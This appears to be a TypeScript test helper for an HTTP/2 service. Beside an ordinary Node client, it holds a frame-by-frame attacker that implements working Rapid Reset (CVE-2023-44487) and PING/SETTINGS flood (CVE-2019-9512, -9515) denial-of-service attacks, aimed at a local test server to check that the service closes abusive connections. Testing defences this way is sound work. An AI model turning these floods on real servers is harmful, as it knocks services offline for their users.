import { readFileSync } from 'node:fs';
import http2 from 'node:http2';
import { frame, h2Socket } from './http2-frames.js';

/** HTTP/2 clients of a service that speaks TLS (SPEC §18): Node's own, and a raw one for the attacks. */

export interface H2Answer {
  status: number;
  headers: http2.IncomingHttpHeaders;
  body: Buffer;
}

export function h2Session(port: number, caFile: string): Promise<http2.ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    // The test certificates name 127.0.0.1 as well as localhost (which may resolve to ::1, where nothing listens).
    const session = http2.connect(`https://127.0.0.1:${port}`, { ca: readFileSync(caFile) });
    session.once('connect', () => resolve(session));
    session.once('error', reject);
  });
}

/**
 * One request on `session`: the whole answer, or the error that ended its stream. A session that may not open
 * a stream any more (told GOAWAY) throws at once, before anything is sent.
 */
export function h2Request(
  session: http2.ClientHttp2Session,
  method: string,
  path: string,
  { headers = {}, body }: { headers?: Record<string, string>; body?: string | Buffer } = {},
): Promise<H2Answer> {
  const stream = session.request({ ':method': method, ':path': path, ...headers }, { endStream: body === undefined });
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    let answer: Omit<H2Answer, 'body'> | undefined;
    stream.on('response', (h) => (answer = { status: Number(h[':status']), headers: h }));
    stream.on('data', (chunk: Buffer) => chunks.push(chunk));
    stream.on('end', () =>
      answer
        ? resolve({ ...answer, body: Buffer.concat(chunks) })
        : reject(new Error('stream ended without an answer')),
    );
    stream.on('error', reject);
    if (body !== undefined) stream.end(body);
  });
}

/**
 * An HTTP/2 attacker, written frame by frame as the published attack tools do (Node's client would not send
 * a stream it cancels at once, nor flood): `rapid-reset` (CVE-2023-44487) sends HEADERS for `GET path` then
 * RST_STREAM CANCEL, stream after stream; `ping` and `settings` send PING or SETTINGS frames, each asking an
 * acknowledgement (CVE-2019-9512, -9515). It never reads. Resolves once the service has closed the
 * connection, with how many streams or frames were written; rejects when it is still open after `max`.
 */
export async function attack(
  kind: 'rapid-reset' | 'ping' | 'settings',
  port: number,
  caFile: string,
  path = '/',
  max = 200_000,
): Promise<number> {
  // HPACK: :method GET (static 2), :scheme https (static 7), :path (name static 4, literal value),
  // :authority (name static 1, literal value), none of them indexed.
  const block = Buffer.concat([
    Buffer.from([0x82, 0x87, 0x04, path.length]),
    Buffer.from(path),
    Buffer.from([0x01, 'localhost'.length]),
    Buffer.from('localhost'),
  ]);
  let closed = false;
  const socket = await h2Socket(port, caFile, () => (closed = true));
  // The service's frames are never read (its acknowledgements pile up): only whether it closes.
  socket.pause();
  socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
  let sent = 0;
  const ping = frame(6, 0, 0, Buffer.alloc(8));
  // SETTINGS_MAX_CONCURRENT_STREAMS = 100, again and again.
  const settings = frame(4, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]));
  for (let id = 1; !closed && sent < max;) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 100; i++, id += 2, sent++) {
      if (kind === 'ping') batch.push(ping);
      else if (kind === 'settings') batch.push(settings);
      else batch.push(frame(1, 0x5, id, block), frame(3, 0, id, Buffer.from([0, 0, 0, 8])));
    }
    // A service that stops reading without closing leaves the writes waiting: a minute of that is a verdict.
    if (!socket.write(Buffer.concat(batch))) {
      let timer: NodeJS.Timeout | undefined;
      let moved: (went: boolean) => void = () => undefined;
      const went = () => moved(true);
      const outcome = new Promise<boolean>((resolve) => (moved = resolve));
      timer = setTimeout(() => moved(false), 60_000);
      socket.once('drain', went).once('close', went);
      const ok = await outcome;
      clearTimeout(timer);
      socket.off('drain', went).off('close', went);
      if (!ok) break;
    }
    await new Promise((resolve) => setImmediate(resolve));
  }
  if (!closed) {
    socket.destroy();
    throw new Error(`the service kept the connection open (unread, or served) after ${sent} ${kind} frames`);
  }
  return sent;
}
